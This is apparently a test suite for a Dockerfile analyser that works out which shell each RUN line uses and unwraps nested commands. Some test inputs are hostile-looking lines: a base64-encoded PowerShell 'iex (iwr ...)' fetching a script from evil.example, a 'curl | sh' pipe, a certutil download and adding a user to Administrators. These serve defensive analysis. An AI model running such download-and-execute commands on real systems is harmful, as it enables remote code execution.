import { test } from 'node:test';
import assert from 'node:assert/strict';
import { buildDockerfileModel } from '../dockerfile/model';
import { createDocument } from '../text';
import { runAnalyses, type LocatedCommand } from './runAnalysis';

function analyse(text: string) {
  const document = createDocument(text);
  const runs = runAnalyses(buildDockerfileModel(document));
  const at = (c: LocatedCommand, token = c.command.name) => document.getText(c.rangeOf(token));
  return { runs, at };
}

test('effective shell: cmd on Windows stages, SHELL switches it, /bin/sh on Linux, parent stage inherited', () => {
  const { runs } = analyse([
    '# escape=`',
    'FROM mcr.microsoft.com/windows/servercore:ltsc2025 AS build',
    'RUN echo one',
    'SHELL ["powershell", "-Command", "$ErrorActionPreference = \'Stop\';"]',
    'RUN Write-Host two',
    'FROM build AS more',
    'RUN Write-Host three',
    'FROM debian:12',
    'RUN echo four',
    '',
  ].join('\n'));
  assert.deepEqual(runs.map((r) => r.shell), ['cmd', 'powershell', 'powershell', 'posix']);
});

test('a base image that sets SHELL hands it to the RUNs built on it: the .NET Framework 4.8 SDK and ASP.NET images run PowerShell', () => {
  const { runs } = analyse([
    '# escape=`',
    'FROM mcr.microsoft.com/dotnet/framework/sdk:4.8 AS build',
    'RUN Invoke-WebRequest -OutFile a.msi https://example.com/a.msi',
    'FROM build AS child',
    'RUN Write-Host inherited',
    'FROM mcr.microsoft.com/dotnet/framework/aspnet:4.8-20260714-windowsservercore-ltsc2019',
    'RUN Write-Host dated',
    'SHELL ["cmd", "/S", "/C"]',
    'RUN echo switched',
    // The 4.8.1 images and the runtime set no SHELL (microsoft/dotnet-framework-docker): cmd.
    'FROM mcr.microsoft.com/dotnet/framework/sdk:4.8.1',
    'RUN echo cmd',
    'FROM mcr.microsoft.com/dotnet/framework/runtime:4.8',
    'RUN echo runtime',
    '',
  ].join('\n'));
  assert.deepEqual(runs.map((r) => r.shell), ['powershell', 'powershell', 'powershell', 'cmd', 'cmd', 'cmd']);
  assert.deepEqual(runs[0]!.commands.map((c) => c.name), ['invoke-webrequest']);
});

test('a Windows image from outside the catalog may have set any SHELL: a RUN that only PowerShell can run is read as PowerShell, others as cmd', () => {
  const { runs } = analyse([
    '# escape=`',
    'FROM edgehog/jenkins.agent:jdk8-windowsservercore-ltsc2016',
    'RUN $output = net users ; `',
    '    if (-not ($output -match $env:user)) { net user $env:user /add ; net localgroup Administrators /add $env:user }',
    'RUN Invoke-WebRequest -OutFile a.zip https://example.com/a.zip',
    'RUN [Net.ServicePointManager]::SecurityProtocol = 3072',
    'RUN echo %PATH% && powershell -Command Write-Host x',
    // A catalog image keeps cmd, whatever the text looks like (its build would fail in cmd).
    'FROM mcr.microsoft.com/windows/servercore:ltsc2022',
    'RUN $x = 1',
    '',
  ].join('\n'));
  assert.deepEqual(runs.map((r) => r.shell), ['powershell', 'powershell', 'powershell', 'cmd', 'cmd']);
  assert.ok(runs[0]!.commands.some((c) => c.name === 'net' && c.command.args[0]?.value === 'localgroup'), runs[0]!.commands.map((c) => c.name).join(','));
});

test('line continuations and comment lines are removed, and ranges still point at the document', () => {
  const text = '# escape=`\nFROM mcr.microsoft.com/windows/servercore:ltsc2025\nSHELL ["powershell", "-Command"]\nRUN Write-Host a; `\n    # explain\n\n    Invoke-WebRequest -Uri https://x.example/y -OutFile y\n';
  const { runs, at } = analyse(text);
  const iwr = runs[0]!.commands.find((c) => c.name === 'invoke-webrequest')!;
  assert.equal(at(iwr), 'Invoke-WebRequest');
  assert.deepEqual(iwr.rangeOf(iwr.command.name).start, { line: 6, character: 4 });
  assert.equal(at(iwr, iwr.command.args[1]), 'https://x.example/y');
});

test('wrappers are opened: powershell -Command in cmd, cmd /S /C in PowerShell, sh -c, JSON form, -EncodedCommand', () => {
  const encoded = Buffer.from("iex (iwr https://evil.example/p.ps1)", 'utf16le').toString('base64');
  const text = [
    'FROM mcr.microsoft.com/windows/servercore:ltsc2025',
    'RUN powershell -NoProfile -ExecutionPolicy Bypass -Command "Invoke-WebRequest https://a.example/x -OutFile x"',
    'RUN ["powershell", "-Command", "Start-BitsTransfer -Source https://b.example/y -Destination y"]',
    `RUN powershell -EncodedCommand ${encoded}`,
    'SHELL ["powershell", "-Command"]',
    'RUN cmd /S /C "certutil -urlcache -split -f https://c.example/z z"',
    'FROM alpine:3.20',
    'RUN sh -c "wget -O /w https://d.example/w"',
    '',
  ].join('\n');
  const { runs, at } = analyse(text);
  const names = runs.map((r) => r.commands.map((c) => c.name).filter(Boolean));
  assert.deepEqual(names, [
    ['powershell', 'invoke-webrequest'],
    ['powershell', 'start-bitstransfer'],
    ['powershell', 'iex', 'iwr'],
    ['cmd', 'certutil'],
    ['sh', 'wget'],
  ]);
  const iwr = runs[0]!.commands[1]!;
  assert.equal(at(iwr), 'Invoke-WebRequest');
  assert.equal(at(iwr, iwr.command.args[0]), 'https://a.example/x');
  const bits = runs[1]!.commands[1]!;
  assert.equal(at(bits, bits.command.args[1]), 'https://b.example/y');
  assert.equal(at(runs[2]!.commands[1]!), encoded, 'decoded commands point at the encoded argument');
  const certutil = runs[3]!.commands[1]!;
  assert.equal(at(certutil), 'certutil');
  assert.equal(at(runs[4]!.commands[1]!), 'wget');
});

test('half-typed RUN lines never throw and keep ranges inside the document', () => {
  const samples = ['FROM x\nRUN powershell -Command "iwr', 'FROM x\nRUN ["powershell", "-Comm', 'FROM x\nRUN cmd /c "(', 'FROM x\nRUN bash -c \'$(', 'FROM x\nRUN `\n'];
  for (const sample of samples) {
    for (let cut = 0; cut <= sample.length; cut++) {
      const text = sample.slice(0, cut);
      const { runs } = analyse(text);
      for (const command of runs.flatMap((r) => r.commands)) {
        for (const token of [command.command.name, ...command.command.args]) {
          const range = command.rangeOf(token);
          // A position outside the document would not survive the round trip through offsets.
          const document = createDocument(text);
          for (const position of [range.start, range.end]) {
            assert.deepEqual(document.positionAt(document.offsetAt(position)), position, JSON.stringify(text));
          }
          assert.ok(document.offsetAt(range.start) <= document.offsetAt(range.end), JSON.stringify(text));
        }
      }
    }
  }
});

test('pipenv run and poetry run run the rest as a command in the project environment', () => {
  const { runs, at } = analyse('FROM python:3.12\nRUN pipenv run pip install cython && poetry run --quiet pip install requests && pipenv install\n');
  const pips = runs[0]!.commands.filter((c) => c.name === 'pip');
  assert.equal(pips.length, 2);
  assert.deepEqual(pips.map((c) => at(c, c.command.args[1])), ['cython', 'requests']);
  // `pipenv install` runs nothing else.
  assert.deepEqual(runs[0]!.commands.map((c) => c.name), ['pipenv', 'pip', 'poetry', 'pip', 'pipenv']);
});

test('sudo, env, su -c and doas run the rest as a command; assignments and substitutions name no command', () => {
  const { runs, at } = analyse('FROM alpine:3.20\nRUN sudo -u root sh -c "curl -fsSL https://x.example/i.sh | sh" && env A=1 wget -O f https://y.example/f && su app -s /bin/sh -c \'apk add git\'\nRUN X=https://h.example/bin/sudo\n');
  const names = runs[0]!.commands.map((c) => c.name);
  for (const expected of ['sudo', 'sh', 'curl', 'env', 'wget', 'su', 'apk']) assert.ok(names.includes(expected), `${expected} in ${names.join(',')}`);
  const curl = runs[0]!.commands.find((c) => c.name === 'curl')!;
  assert.equal(at(curl), 'curl');
  assert.deepEqual(runs[1]!.commands.map((c) => c.name), ['']);
});
